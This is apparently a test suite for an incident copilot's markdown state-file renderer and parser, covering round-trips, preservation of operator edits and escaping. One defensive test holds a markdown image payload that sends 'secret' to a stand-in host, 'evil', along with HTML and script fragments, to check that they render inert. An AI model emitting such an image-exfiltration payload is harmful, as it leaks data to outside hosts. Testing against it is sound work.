"""STATE.md: what is written is read back, and an operator's hand is respected."""

import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from copilot.notes.front import Front
from copilot.notes.sections import (
    Artifact,
    Citation,
    Done,
    Finding,
    Moment,
    Question,
    RuledOut,
)
from copilot.notes.state import State, parse, render
from copilot.window import ALWAYS, Window

START = datetime(2015, 10, 18, 18, 5, 27, tzinfo=UTC)

EXAMPLE = State(
    front=Front(
        incident="inc-20151018-3fa9c1",
        title="JobProgressStalled: application_1445144423722_0020",
        status="investigating",
        alerts=3,
        window=Window(START - timedelta(hours=1), START + timedelta(minutes=30)),
        model="offline",
        tokens=48211,
        cost_usd=0.0413,
        started=START,
        updated=START + timedelta(minutes=4),
        labels={"alertname": "JobProgressStalled", "app": "PageRank"},
    ),
    alert="JobProgressStalled: no map progress since 18:05;\n\n  still RUNNING",
    now="Comparing the minutes after 18:05 with the half hour before.",
    artifacts=(Artifact("host", "MININT-FNANLI5", "alert", 12),),
    findings=(
        Finding(
            "The host of the application master lost its network at 18:05:27.",
            "confirmed",
            (Citation("R0002:41", "Address change detected"), Citation("R0003:7")),
        ),
    ),
    ruled_out=(RuledOut("Disk full.", (Citation("R0004"),)),),
    already_done=(Done('search_logbook "No route"', "R0003", "41 hits"),),
    open_questions=(Question("Which switch does msra-sa-41 hang on?"),),
    timeline=(Moment(START, "first address change", "R0002:41"),),
    next_step="Ask the network team.",
)

NASTY = st.sampled_from(
    [
        "## Findings", "# x", "---", "<<<<<<< HEAD", "```", "~~~", "- **confirmed**: x", "  - R1",
        "`", "``", "\\", "\\`", "`a` → `b`: c", " · ", "|", "[x](http://y)", "![x][y]", "<br>",
        "<img src=x>", "\x1b[31m", "\u202e", "\U000e0041", "\ud800", "\r", "\n", "\n\n", "\t", "    ",
        "*None yet.*", "incident: x", "\u2028", "\x85", "x" * 3000, "\ufeff", "status: closed", ": ",
    ]
)  # fmt: skip
TEXT = st.lists(NASTY | st.text(max_size=12), max_size=5).map("".join)
TIME = st.datetimes(
    min_value=datetime(2, 1, 1), max_value=datetime(9998, 1, 1),  # noqa: DTZ001 - hypothesis adds the zone
    timezones=st.sampled_from([UTC, timezone(timedelta(hours=14))]),
)  # fmt: skip
CITATIONS = st.lists(st.builds(Citation, TEXT, TEXT), max_size=3).map(tuple)
COUNT = st.integers(0, 10**6)


@st.composite
def windows(draw: st.DrawFn) -> Window:
    start, length = draw(TIME), draw(st.integers(1, 10**6))
    ends = [Window(start, start + timedelta(seconds=length)), Window(start, None), ALWAYS]
    return draw(st.sampled_from(ends))


def tuples(entry: st.SearchStrategy[object]) -> st.SearchStrategy[object]:
    return st.lists(entry, max_size=3).map(tuple)


FRONTS = st.builds(
    Front,
    **dict.fromkeys(("incident", "title", "status", "outcome", "verdict", "note"), TEXT),
    labels=st.dictionaries(TEXT, TEXT, max_size=3), window=windows(), alerts=COUNT, tokens=COUNT,
    cost_usd=st.floats(0, 1000), started=st.none() | TIME, updated=st.none() | TIME,
)  # fmt: skip
STATUS = st.sampled_from(["confirmed", "likely", "possible"])
STATES = st.builds(
    State,
    front=FRONTS, alert=TEXT, now=TEXT, next_step=TEXT,
    artifacts=tuples(st.builds(Artifact, TEXT, TEXT, TEXT, COUNT)),
    findings=tuples(st.builds(Finding, TEXT, STATUS, CITATIONS)),
    ruled_out=tuples(st.builds(RuledOut, TEXT, CITATIONS)),
    already_done=tuples(st.builds(Done, TEXT, TEXT, TEXT)),
    open_questions=tuples(st.builds(Question, TEXT)),
    timeline=tuples(st.builds(Moment, TIME, TEXT, TEXT)),
    folded=st.dictionaries(st.sampled_from(["timeline", "already_done"]), st.integers(1, 99)),
)  # fmt: skip


@given(STATES)
def test_what_is_rendered_is_parsed_back(state: State) -> None:
    assert parse(render(state)) == state


@given(STATES)
def test_rendering_a_page_again_gives_the_same_bytes(state: State) -> None:
    page = render(state)

    assert render(parse(page)) == page
    page.encode()


@settings(max_examples=200)
@given(TEXT, st.lists(TEXT, max_size=12))
def test_no_text_makes_parsing_fail_and_no_line_is_lost(first: str, lines: list[str]) -> None:
    page = "\n".join([first, *lines])

    again = render(parse(page))

    assert parse(again) == parse(page)
    kept = again.split("\n")
    lost = [
        line
        for line in page.removeprefix("\ufeff").split("\n")
        if line.strip() and line.rstrip("\r") not in kept
    ]
    assert [line for line in lost if not _is_ours(line)] == []


@given(FRONTS)
def test_the_front_matter_is_yaml_that_says_the_same(front: Front) -> None:
    head = render(State(front=front)).split("---\n")[1]

    read = yaml.safe_load(head)

    for name in ("incident", "status", "outcome", "verdict", "note"):
        assert read.get(name, getattr(Front(), name)) == getattr(front, name)
    assert read.get("labels", {}) == front.labels


def _is_ours(line: str) -> bool:
    """A title, a placeholder or an entry may be written anew; an operator's line may not."""
    return line.startswith(("# ", "#", "*None yet.*"))


@given(STATES, st.data())
def test_a_line_that_an_operator_adds_survives_a_change(state: State, data: st.DataObject) -> None:
    lines = render(state).split("\n")
    spot = data.draw(st.integers(0, len(lines)))
    lines.insert(
        spot, "Called Ann at 14:10, see [the ticket](https://tracker/OPS-1) <ann@example.org>"
    )

    changed = replace(parse("\n".join(lines)), now="something else")
    page = render(changed).split("\n")

    written_over = spot and lines[spot - 1] in ("## Now", "")  # it became the text of Now itself
    assert lines[spot] in page or written_over


@pytest.mark.parametrize(
    "hers",
    [
        "- **likely**: see [the ticket](https://tracker/OPS-1) and <b>this</b>",
        "* possible: written with a star",
        "- **confirmed**: with her own proof\n  - the switch's console, 14:10 <photo>",
        "Just a paragraph.\n\nAnd another one with ## in it",
        "| a | table |\n|---|---|\n| 1 | 2 |",
        "<<<<<<< HEAD\n- **likely**: a\n=======\n- **likely**: b\n>>>>>>> theirs",
    ],
)
def test_her_wording_stays_byte_for_byte_where_she_put_it(hers: str) -> None:
    page = render(EXAMPLE).replace("\n\n## Ruled out", f"\n{hers}\n\n## Ruled out")
    state = parse(page)

    assert render(state) == page
    later = replace(state, findings=(*state.findings, Finding("more", "possible")))
    assert hers in render(later)


def test_her_section_stays_behind_the_section_it_followed() -> None:
    page = render(EXAMPLE).replace(
        "## Next step", "## Shift log\n\n- 14:10 called Ann\n\n## Next step"
    )
    state = parse(page)

    assert render(state) == page
    later = render(replace(state, timeline=(*state.timeline, Moment(START, "later"))))
    assert later.index("later") < later.index("## Shift log") < later.index("## Next step")
    assert len(parse(later).timeline) == 2


def test_her_change_of_an_entry_is_read() -> None:
    page = render(EXAMPLE).replace("- **confirmed**: The host", "- **likely**: Perhaps the host")

    assert parse(page).findings[0].status == "likely"
    assert parse(page).findings[0].claim.startswith("Perhaps the host")


def test_her_keys_in_the_front_matter_stay() -> None:
    page = render(EXAMPLE).replace("status: investigating", "status: closed\nowner: ann # on call")
    state = parse(page)

    assert state.front.status == "closed"
    assert "owner: ann # on call" in render(state)


def test_a_page_without_its_front_matter_is_still_read() -> None:
    page = render(EXAMPLE)
    broken = page.replace("---\n", "", 1)

    assert parse(broken).findings == EXAMPLE.findings
    assert "tokens: 48211" in render(parse(broken))


def test_windows_line_ends_are_read() -> None:
    assert parse(render(EXAMPLE).replace("\n", "\r\n")) == EXAMPLE


def test_a_section_that_occurs_twice_is_joined() -> None:
    page = render(EXAMPLE) + "\n## Findings\n\n- **possible**: a second thought\n"

    assert [one.status for one in parse(page).findings] == ["confirmed", "possible"]


@pytest.mark.bad_input("B68")
def test_nothing_a_model_writes_is_markup() -> None:
    """No image is fetched and no HTML is rendered from what was written into a claim."""
    hostile = "![x](https://evil/?d=secret) ![a][b] <img src=x> <script>\n[b]: https://evil"
    claim = render(State(findings=(Finding(hostile, "likely"),)))

    assert not re.search(r"(?<!\\)\](?=[(\[:])|(?<!\\)<(?!br>)[A-Za-z/!?]", claim)


def test_control_characters_are_spelled_out() -> None:
    page = render(State(alert="\x1b[2J\u202e", findings=(Finding("a\x9bb\U000e0041", "likely"),)))

    assert r"\x1b[2J\u202e" in page
    assert r"a\x9bb\U000e0041" in page


def test_a_text_of_five_megabytes_is_cut_with_a_mark() -> None:
    state = State(now="x" * 5_000_000, findings=(Finding("y" * 5_000_000, "likely"),))

    assert len(render(state)) < 5000
    assert state.findings[0].claim.endswith("…")


def test_the_page_looks_like_this() -> None:
    assert render(EXAMPLE) == PAGE


PAGE = """\
---
incident: inc-20151018-3fa9c1
status: investigating
alerts: 3
window: 2015-10-18T17:05:27Z/2015-10-18T18:35:27Z
model: offline
tokens: 48211
cost_usd: 0.0413
started: 2015-10-18T18:05:27Z
updated: 2015-10-18T18:09:27Z
labels: {"alertname": "JobProgressStalled", "app": "PageRank"}
---

# JobProgressStalled: application_1445144423722_0020

## Alert

    JobProgressStalled: no map progress since 18:05;

      still RUNNING

## Now

Comparing the minutes after 18:05 with the half hour before.

## Artifacts

- host `MININT-FNANLI5` · alert · 12

## Findings

- **confirmed**: The host of the application master lost its network at 18:05:27.
  - R0002:41 `Address change detected`
  - R0003:7

## Ruled out

- Disk full.
  - R0004

## Already done

- `search_logbook "No route"` → `R0003`: 41 hits

## Open questions

- Which switch does msra-sa-41 hang on?

## Timeline

- 2015-10-18T18:05:27Z `R0002:41` first address change

## Next step

Ask the network team.
"""
